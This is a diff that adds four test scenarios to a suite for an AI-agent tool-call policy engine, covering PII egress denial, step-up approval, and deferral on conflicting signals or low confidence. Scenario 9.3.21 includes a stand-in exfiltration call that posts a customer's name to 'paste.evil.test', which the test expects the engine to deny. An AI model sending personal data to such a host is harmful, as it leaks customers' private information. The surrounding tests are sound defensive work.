@@ -187,4 +187,121 @@ export const R3: readonly Scenario[] = [
       t.check(receipt.decision.policy.rule_ids.length > 0, "the receipt does not name the default posture");
     },
   },
+  {
+    id: "9.3.21",
+    requirement: "R3",
+    title: "After reading customer PII, a post to a host not on the allowlist is denied",
+    async run(t: ScenarioContext) {
+      const d = await t.start({
+        policy: `policy r3_21 version "1"
+tool crm.lookup { args { id: string } effect read output confidential, pii }
+tool http.post { args { url: string, body: string } effect egress target host(args.url) }
+const allowed_hosts = {"api.example.com"}
+deny pii_to_unknown_host on http.post when session.seen(pii in labels) and target not in allowed_hosts
+allow reads on crm.lookup
+allow posts on http.post
+default deny`,
+      });
+      const s = await d.session({ identity: alice("s21"), intent: "look up customer 42 and report" });
+      expectRan(t, await s.call("crm.lookup", { id: "42" }), "ALLOW", "crm.lookup");
+      const out = await s.call("http.post", { url: "https://paste.evil.test/x", body: "42: Jane Roe" });
+      expectBlocked(t, out, "DENY", "http.post to an unknown host");
+      expectRan(
+        t,
+        await s.call("http.post", { url: "https://api.example.com/r", body: "ok" }),
+        "ALLOW",
+        "allowlisted",
+      );
+    },
+  },
+  {
+    id: "9.3.22",
+    requirement: "R3",
+    title: "Summarisation laundering: after PII, a public channel is denied and a private one needs approval",
+    async run(t: ScenarioContext) {
+      const d = await t.start({
+        policy: `policy r3_22 version "1"
+tool crm.lookup { args { id: string } effect read output confidential, pii }
+tool slack.post { args { channel: string, text: string } effect egress target args.channel }
+const public_channels = {"#public-updates", "#general"}
+deny pii_to_public on slack.post when session.seen(pii in labels) and args.channel in public_channels
+  because "no PII, even summarised, in public channels"
+step_up pii_to_private on slack.post when session.seen(pii in labels) approvers ["privacy-officer"] timeout 30m
+allow reads on crm.lookup
+allow posts on slack.post
+default deny`,
+      });
+      const s = await d.session({ identity: alice("s22"), intent: "summarise the account for the team" });
+      expectRan(t, await s.call("crm.lookup", { id: "42" }), "ALLOW", "crm.lookup");
+      const pub = await s.call("slack.post", {
+        channel: "#public-updates",
+        text: "Summary: our biggest customer",
+      });
+      expectBlocked(t, pub, "DENY", "slack.post to #public-updates");
+      const priv = await s.call("slack.post", { channel: "#account-team", text: "Summary" });
+      expectBlocked(t, priv, "STEP_UP", "slack.post to #account-team (no approver answers)");
+    },
+  },
+  {
+    id: "9.3.25",
+    requirement: "R3",
+    title: "The change ticket and the environment monitor disagree: the rotation is DEFERred",
+    async run(t: ScenarioContext) {
+      const policy = `policy r3_25 version "1"
+tool credentials.rotate { args { system: string } effect write target args.system }
+fact ticket_window_approved: bool
+fact monitor_state: string
+defer conflicting_signals on credentials.rotate when ticket_window_approved and monitor_state == "freeze"
+  needs ticket_window_approved, monitor_state timeout 15m
+allow rotation on credentials.rotate when ticket_window_approved and monitor_state == "normal"
+default deny`;
+      const conflict = await t.start({
+        policy,
+        facts: { ticket_window_approved: true, monitor_state: "freeze" },
+      });
+      const s = await conflict.session({
+        identity: alice("s25"),
+        intent: "rotate the prod-payments credentials",
+      });
+      expectBlocked(
+        t,
+        await s.call("credentials.rotate", { system: "prod-payments" }),
+        "DEFER",
+        "signals disagree",
+      );
+      const agree = await t.start({
+        policy,
+        facts: { ticket_window_approved: true, monitor_state: "normal" },
+      });
+      const s2 = await agree.session({
+        identity: alice("s25b"),
+        intent: "rotate the prod-payments credentials",
+      });
+      expectRan(
+        t,
+        await s2.call("credentials.rotate", { system: "prod-payments" }),
+        "ALLOW",
+        "signals agree",
+      );
+    },
+  },
+  {
+    id: "9.3.28",
+    requirement: "R3",
+    title: "A confidence score below the threshold DEFERs",
+    async run(t: ScenarioContext) {
+      const policy = `policy r3_28 version "1"
+tool files.write { args { path: string, content: string } effect write target args.path }
+fact confidence: number
+defer low_confidence when confidence < 0.5 needs confidence because "classifier confidence below threshold"
+allow writes on files.write
+default deny`;
+      const low = await t.start({ policy, facts: { confidence: 0.42 } });
+      const s = await low.session({ identity: alice("s28"), intent: "write the file" });
+      expectBlocked(t, await s.call("files.write", { path: "/a", content: "x" }), "DEFER", "confidence 0.42");
+      const high = await t.start({ policy, facts: { confidence: 0.9 } });
+      const s2 = await high.session({ identity: alice("s28b"), intent: "write the file" });
+      expectRan(t, await s2.call("files.write", { path: "/a", content: "x" }), "ALLOW", "confidence 0.9");
+    },
+  },
 ];
